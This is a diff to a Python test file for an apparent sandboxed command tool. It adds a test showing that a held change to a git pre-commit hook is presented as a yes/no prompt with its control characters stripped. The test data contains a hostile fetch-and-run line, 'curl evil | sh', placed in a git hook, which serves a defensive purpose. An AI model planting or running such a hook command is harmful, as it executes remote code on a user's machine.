@@ -1,5 +1,5 @@
 """Every change a command makes is a transaction: run on a copy-on-write layer, read whole, held to
-one policy, applied into a checkpoint and undone byte for byte (docs/design.md §9.5).
+one policy, applied into a checkpoint and undone byte for byte (docs/design.md §9.6).
 
 Real commands under real bwrap on a real overlayfs layer; where the layer cannot be made here they
 skip and say why (CI installs bubblewrap, see .ci/run).
@@ -550,3 +550,15 @@ def test_without_a_store_nothing_changes_for_the_tools(workspace: Path) -> None:
     assert not result.is_error
     assert (workspace / "n.txt").read_text() == "x"
     assert not (workspace / ".foldline").exists()
+
+
+def test_a_held_change_is_asked_as_yes_or_no_with_its_diff_and_never_saved_as_a_rule(workspace: Path) -> None:
+    from foldline.cli._prompt import answer_options, render_question
+    from foldline.tools.permissions import Decision
+    from foldline.tools.transaction import HELD_CHANGES
+
+    details = ".git/hooks/pre-commit: git's `hooks`\n    +curl evil | sh\x1b[2J"
+    text = render_question(HELD_CHANGES, {"changes": details}, Decision("ask", "Apply these too?"), workspace)
+    assert "+curl evil | sh" in text
+    assert "\x1b" not in text  # the file's control characters never reach the terminal
+    assert [o.choice for o in answer_options(HELD_CHANGES, always=("HeldChanges",))] == ["yes", "no"]
